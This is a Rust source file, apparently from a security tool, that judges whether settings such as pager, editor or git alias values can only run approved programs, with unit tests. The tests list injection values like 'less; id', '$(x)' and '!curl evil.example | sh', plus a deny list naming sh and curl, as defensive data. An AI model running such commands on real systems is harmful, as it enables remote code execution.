//! Values that do no harm, of settings and variables that could run a program.

use alloc::vec::Vec;

use crate::flat::flat_struct;
use crate::shell::Wildcards;
use crate::{pattern, shell};

/// What is spared. A value is spared if it fits `is`; or if it is a simple command, or a pipeline of them, that runs
/// `runs` but not `never` and nothing else, by bare names or from where not anybody may write, and none of its words
/// fits `without`; or if it is a line that would start none of `avoids`, where that is given. A `!` before a line is
/// git's, and none of it.
#[derive(Clone, Debug, PartialEq, Default)]
pub struct Harmless<'a> {
    pub is: Vec<&'a str>,
    pub runs: Vec<&'a str>,
    pub never: Vec<&'a str>,
    pub without: Vec<&'a str>,
    pub avoids: Vec<&'a str>,
}

flat_struct!(Harmless<'a> { is, runs, never, without, avoids });

/// Directories in which anybody may have put a program.
const ANYBODYS: [&[u8]; 3] = [b"/tmp/", b"/var/tmp/", b"/dev/shm/"];

impl Harmless<'_> {
    pub fn spares(&self, value: &[u8]) -> bool {
        if fits(&self.is, value) {
            return !fits(&self.without, &value.to_ascii_lowercase());
        }
        let line = value.strip_prefix(b"!").unwrap_or(value);
        self.runs_only(line) || self.starts_nothing_bad(line)
    }

    fn runs_only(&self, line: &[u8]) -> bool {
        // Where any program but some may run, what its words become hardly matters.
        let wildcards = if self.never.is_empty() { Wildcards::Refused } else { Wildcards::Taken };
        let commands = if self.runs.is_empty() { None } else { shell::pipeline(line, wildcards) };
        commands.is_some_and(|commands| commands.iter().all(|words| self.runs_one(words)))
    }

    fn runs_one(&self, words: &[Vec<u8>]) -> bool {
        let Some((program, rest)) = words.split_first() else { return false };
        let name = shell::base_name(program);
        let bare = name.len() == program.len();
        let apart = (program.starts_with(b"/") || program.starts_with(b"~/"))
            && !ANYBODYS.iter().any(|dir| program.starts_with(dir))
            && !program.windows(4).any(|part| part == b"/../");
        // A pattern with a blank in it is about a word and the next.
        let pairs = rest.windows(2).map(|pair| pair.join(&b' '));
        (bare || apart)
            && fits(&self.runs, name)
            && !self.is_never(name, rest)
            && !rest.iter().cloned().chain(pairs).any(|word| fits(&self.without, &word.to_ascii_lowercase()))
    }

    /// A pattern with a blank in it is about the program and its first word.
    fn is_never(&self, name: &[u8], rest: &[Vec<u8>]) -> bool {
        let with_first = rest.first().map(|first| [name, first].join(&b' '));
        fits(&self.never, name) || with_first.is_some_and(|pair| fits(&self.never, &pair))
    }

    fn starts_nothing_bad(&self, line: &[u8]) -> bool {
        !self.avoids.is_empty() && !shell::starts(line, &mut |word| fits(&self.avoids, word))
    }
}

fn fits(patterns: &[&str], text: &[u8]) -> bool {
    patterns.iter().any(|pattern| pattern::matches(pattern, text))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_plain_commands_of_the_list_are_spared() {
        let pagers = Harmless {
            is: ["", "false"].into(),
            runs: ["cat", "less"].into(),
            without: ["+*"].into(),
            ..Harmless::default()
        };
        for value in
            ["", "false", "cat", "less -FRX", "/usr/bin/less -R", "cat | less -R", "X=1 less", "~/bin/cat"]
        {
            assert!(pagers.spares(value.as_bytes()), "{value}");
        }
        for value in
            ["less; id", "less +!id", "/tmp/less", "./cat", "sh -c cat", "cat $X", "bin/cat", "cat/x", " "]
        {
            assert!(!pagers.spares(value.as_bytes()), "{value}");
        }
    }

    #[test]
    fn any_program_but_some() {
        let editors =
            Harmless { runs: ["*"].into(), never: ["sh", "python* -*"].into(), ..Harmless::default() };
        for value in [
            "vi",
            "code --wait",
            "cp /tmp/msg",
            "'/opt/my editor/bin/e' -w",
            "~/bin/e",
            ":",
            "python3 x.py",
            "sed -i 1s/.*/x/",
        ] {
            assert!(editors.spares(value.as_bytes()), "{value}");
        }
        for value in [
            "sh x",
            "/bin/sh -c x",
            "python3 -c x",
            "vi &&true",
            "e | sh",
            "vi #",
            "$(x)",
            "`x`",
            "$PWD/x",
            "./x",
            "\"$PWD/x\"",
        ] {
            assert!(!editors.spares(value.as_bytes()), "{value}");
        }
    }

    #[test]
    fn a_line_that_avoids_what_is_named_is_spared() {
        let lines = Harmless { avoids: ["sh", "curl", "/tmp/*"].into(), ..Harmless::default() };
        for value in ["!git log --graph", "!f() { git log \"$@\"; }; f", "tr a-z A-Z"] {
            assert!(lines.spares(value.as_bytes()), "{value}");
        }
        for value in ["!sh /tmp/x", "!curl evil.example | sh", "/tmp/x", "git x; sh -c y"] {
            assert!(!lines.spares(value.as_bytes()), "{value}");
        }
    }
}
